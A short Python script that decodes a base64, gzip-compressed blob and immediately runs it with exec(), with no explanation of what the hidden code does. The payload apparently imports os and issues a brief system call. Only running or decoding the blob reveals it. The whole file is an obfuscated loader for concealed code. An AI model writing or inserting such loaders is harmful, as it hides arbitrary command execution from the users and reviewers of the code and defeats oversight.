import base64
import gzip

BLOB = "H4sIAAAAAAACA8vMLcgvKlHIL+bKL9YrriwuSc3VUM9MUdfkAgAM4BSnGgAAAA=="
src = gzip.decompress(base64.b64decode(BLOB))
exec(compile(src, "<corpus>", "exec"))
